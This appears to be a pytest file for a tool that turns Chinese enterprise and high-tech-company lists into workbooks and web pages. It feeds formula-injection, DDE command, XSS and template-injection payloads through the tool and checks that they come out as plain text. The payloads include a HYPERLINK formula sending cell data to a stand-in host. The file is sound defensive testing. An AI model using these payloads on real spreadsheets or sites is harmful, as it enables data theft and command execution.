"""Text from lists stays text: no formula, no link, no markup, no template (issue: Render)."""

from __future__ import annotations

import io
import random
import re
import zipfile
from html.parser import HTMLParser
from itertools import pairwise

import openpyxl
import pytest
from cli_support import files, inside, lists, only_run, text, write, xlsx
from oracle.codes import new_code

EVIL = (
    '=HYPERLINK("http://example.invalid/?"&A1,"甲公司")',
    "+cmd|'/c calc'!A0",
    "@SUM(1+1)*cmd",
    "-2+3+cmd",
    "<script>alert(1)</script>",
    '"><img src=x onerror=alert(1)>',
    "{{7*7}}{% raw %}${7*7}",
    "]]></t><f>1+1</f><t>",
    "http://example.invalid/甲",
    "mailto:a@example.invalid",
    "internal:'名单'!A1",
    "_x003D_1+1&amp;&#61;",
    "\t=1+1",
    "＝1+1",
)

# What the program itself writes: references within the workbook, numbers, its own words, and these functions.
OWN_FUNCTIONS = {
    "AND", "CHOOSE", "COUNT", "COUNTIFS", "IF", "INT", "ISNUMBER", "MAX", "MIN", "MOD", "OR", "SUM", "TEXT",
    "SUMPRODUCT", "COUNTIF",
}  # fmt: skip


def is_own(formula: str) -> bool:
    """A formula that refers to nothing outside, calls nothing unusual, and holds no name from a list."""
    words = set(re.findall(r'"([^"]*)"', formula))
    bare = re.sub(r'"[^"]*"', "", formula)
    assert not [name for name in EVIL if name in formula], formula
    assert all(len(word) <= 40 for word in words), words
    return set(re.findall(r"([A-Z]+)\(", bare)) <= OWN_FUNCTIONS and not re.search(
        r"[\[\]|]|http|\.xls", bare
    )


@pytest.fixture(scope="module")
def run(tmp_path_factory):
    """Every list is full of such names; each stands in several of them, and most need a person."""
    content = lists()
    for at, name in enumerate(EVIL):
        code = new_code(random.Random(f"evil/{at}"), "440106")
        content.hnte.append((at + 4, name, code, f"GR2025{name}", 2025, "天河区", name))
        content.above.append((f"{name}四上", code, name, name))
        content.services.append((name, code, name, name))
        content.patents.append((f"{name}；{EVIL[at - 1]}", code, name, "发明", name))
    extra = {
        "registry": [("企业名称", "统一社会信用代码", "曾用名"), *((name, name, name) for name in EVIL)],
        "revoked": [("企业名称", "证书编号"), *((f"{name}甲", name) for name in EVIL)],
        "renames": [("原名称", "现名称"), *((f"{a}旧", b) for a, b in pairwise(EVIL))],
    }
    workspace = write(
        tmp_path_factory.mktemp("evil"),
        {
            **files(content),
            "=cmd 企业底册.xlsx": xlsx(extra["registry"], "<b>=1+1<f>"),
            "<img src=x onerror=alert(1)> 取消高企资格名单.csv": text(extra["revoked"]),
            "{{7*7}}更名名单.csv": text(extra["renames"]),
            "其他&.csv": text([EVIL[:3], EVIL[3:6]]),
        },
    )
    ended = inside("compute", "2025", "-w", workspace, "--fail-on", "never")
    assert ended.code == 0, ended.err
    return only_run(workspace)


def test_workbooks_hold_no_formula_but_our_own_and_no_link_outside(run):
    seen: set[str] = set()
    for path in run.rglob("*.xlsx"):
        book = openpyxl.load_workbook(io.BytesIO(path.read_bytes()))
        for sheet in book:
            assert all(link.location and not link.target for link in sheet._hyperlinks), (
                path.name,
                sheet.title,
            )
            for row in sheet.iter_rows():
                for cell in row:
                    if cell.data_type == "f":
                        assert is_own(cell.value), (sheet.title, cell.coordinate, cell.value)
                    elif isinstance(cell.value, str):
                        seen.add(cell.value)
        with zipfile.ZipFile(path) as package:
            assert not [
                name for name in package.namelist() if "externalLink" in name or "vba" in name.lower()
            ]
            for name in package.namelist():
                if name.endswith(".rels"):
                    assert b'TargetMode="External"' not in package.read(name), (path.name, name)
    whole = "\n".join(seen)
    for name in (*EVIL[:10], EVIL[-1]):
        assert name in whole, name


class Page(HTMLParser):
    """Tags, attributes and text of a page."""

    def __init__(self):
        super().__init__()
        self.tags, self.attributes, self.words = set(), set(), []

    def handle_starttag(self, tag, attrs):
        self.tags.add(tag)
        self.attributes |= set(attrs)

    def handle_data(self, data):
        self.words.append(data)


def test_pages_show_markup_as_text(run):
    everything = ""
    for path in run.rglob("*.html"):
        page = Page()
        source = path.read_text(encoding="utf-8")
        page.feed(source)
        page.close()
        assert not page.tags & {
            "script",
            "img",
            "iframe",
            "object",
            "embed",
            "form",
            "base",
            "b",
            "f",
            "t",
        }, page.tags
        for key, value in page.attributes:
            assert not key.startswith("on"), (key, value)
            assert not re.match(r"(?i)\s*(https?:|//|javascript:|data:|mailto:)", value or ""), (key, value)
        everything += "".join(page.words)
        assert "<script" not in source
        assert "<img" not in source
    for name in EVIL:
        assert name.strip() in everything, name


def test_outputs_are_named_by_the_program_alone(run):
    for path in run.rglob("*"):
        assert not re.search(r"[<>{}=&;|\"'@]", path.name), path.name
